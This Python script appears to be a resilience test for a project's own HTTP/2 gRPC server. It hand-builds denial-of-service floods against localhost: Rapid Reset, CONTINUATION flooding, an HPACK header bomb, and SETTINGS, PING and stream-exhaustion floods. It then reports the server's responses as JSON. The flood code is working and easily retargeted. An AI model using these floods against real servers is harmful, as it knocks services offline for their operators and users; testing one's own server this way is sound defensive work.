#!/usr/bin/python3
# SPDX-License-Identifier: MIT OR Apache-2.0
"""HTTP/2 frame floods written frame by frame (python3-hpack for header
blocks; no HTTP/2 library that would refuse to misbehave), over TLS with the
development client certificate, against amaters-netd.

Attacks (--attack):
  rapidreset    HEADERS of a request, then RST_STREAM(CANCEL) at once, for
                --count streams (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then --count CONTINUATION frames
                of 16 header fields each, never ending the block
                (CVE-2024-28182)
  hpackbomb     one 4 KiB header field added to the dynamic table, then
                --count requests each repeating it 100 times by index
                (400 KiB of headers per 500-byte request)
  settings      --count SETTINGS frames, the client never reading the ACKs
  ping          --count PING frames, the client never reading the ACKs
  streams       --count requests opened at once (never ended), beyond the
                server's SETTINGS_MAX_CONCURRENT_STREAMS

It writes without reading (a non-blocking socket: what the server will not
take is counted as not sent), then reads for --read seconds. It prints one
JSON object: frames sent, the server's GOAWAY (error code, debug data),
RST_STREAM codes by count, HEADERS responses by :status / grpc-status, and
whether and when the server closed the connection.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 7: "REFUSED_STREAM",
         8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


REQ = [(":method", "POST"), (":scheme", "https"), (":path", "/amaters.v1.AmateRS/Execute"),
       (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]


class Reader:
    """Parses the server's frames as they come."""

    def __init__(self):
        self.buf = b""
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.goaway = None
        self.rst = {}
        self.status = {}
        self.frames = 0

    def feed(self, data, at):
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            t, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            p = self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            self.frames += 1
            if t == GOAWAY and self.goaway is None:
                code = int.from_bytes(p[4:8], "big")
                self.goaway = {"code": CODES.get(code, code), "debug": p[8:].decode("latin-1"), "at": at}
            elif t == RST:
                code = CODES.get(int.from_bytes(p[:4], "big"), int.from_bytes(p[:4], "big"))
                self.rst[code] = self.rst.get(code, 0) + 1
            elif t == HEADERS:
                if fl & 0x8:  # PADDED
                    p = p[1:len(p) - p[0]]
                if fl & 0x20:  # PRIORITY
                    p = p[5:]
                try:
                    hdrs = dict((k.decode() if isinstance(k, bytes) else k, v.decode() if isinstance(v, bytes) else v)
                                for k, v in self.dec.decode(p))
                except Exception as e:  # a block split over CONTINUATION: not expected from our server
                    hdrs = {"decode-error": str(e)}
                key = "%s/%s" % (hdrs.get(":status", "-"), hdrs.get("grpc-status", "-"))
                self.status[key] = self.status.get(key, 0) + 1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pki", required=True)
    ap.add_argument("--attack", required=True,
                    choices=["rapidreset", "continuation", "hpackbomb", "settings", "ping", "streams"])
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--read", type=float, default=3.0)
    a = ap.parse_args()

    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=a.pki + "/ca.pem")
    ctx.load_cert_chain(a.pki + "/client.pem", a.pki + "/client-key.pem")
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", a.port)), server_hostname="localhost")
    enc = hpack.Encoder()
    out = [PREFACE + frame(SETTINGS, 0, 0)]
    sid = 1
    if a.attack == "rapidreset":
        for _ in range(a.count):
            out.append(frame(HEADERS, END_HEADERS, sid, enc.encode(REQ)) + frame(RST, 0, sid, struct.pack(">I", 8)))
            sid += 2
    elif a.attack == "continuation":
        out.append(frame(HEADERS, 0, sid, enc.encode(REQ)))
        for i in range(a.count):
            out.append(frame(CONT, 0, sid, enc.encode([("x-c%d" % (i * 16 + k), "v") for k in range(16)])))
    elif a.attack == "hpackbomb":
        big = ("x-bomb", "b" * 4000)
        out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, enc.encode(REQ + [big])))
        sid += 2
        for _ in range(a.count):
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, enc.encode(REQ + [big] * 100)))
            sid += 2
    elif a.attack == "settings":
        out += [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))] * a.count
    elif a.attack == "ping":
        out += [frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(a.count)]
    elif a.attack == "streams":
        for _ in range(a.count):
            out.append(frame(HEADERS, END_HEADERS, sid, enc.encode(REQ)))
            sid += 2
    data = b"".join(out)
    t0 = time.time()
    sock.setblocking(False)
    sent = 0
    rd = Reader()
    closed = None
    write_error = None
    # write what the server takes (without reading: a client that does not
    # read), for at most 5 s; then read
    while sent < len(data) and time.time() - t0 < 5:
        try:
            sent += sock.send(data[sent:sent + 65536])
        except (ssl.SSLWantWriteError, BlockingIOError):
            select.select([], [sock], [], 0.05)
        except OSError as e:
            # the server closed while we wrote (it may already have answered
            # a flood in the first bytes): what it sent is still to be read
            write_error = {"how": "write: %s" % e, "at": round(time.time() - t0, 2)}
            break
    end = time.time() + a.read
    while closed is None and time.time() < end:
        r, _, _ = select.select([sock], [], [], 0.1)
        if not r:
            continue
        try:
            chunk = sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError):
            continue
        except OSError as e:
            closed = {"how": "read: %s" % e, "at": round(time.time() - t0, 2)}
            break
        if not chunk:
            closed = {"how": "eof", "at": round(time.time() - t0, 2)}
            break
        rd.feed(chunk, round(time.time() - t0, 2))
    if closed is None and write_error is not None:
        closed = write_error
    print(json.dumps({"attack": a.attack, "count": a.count, "bytes": len(data), "bytes_sent": sent,
                      "goaway": rd.goaway, "rst": rd.rst, "responses": rd.status, "frames_read": rd.frames,
                      "closed": closed, "write_error": write_error}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
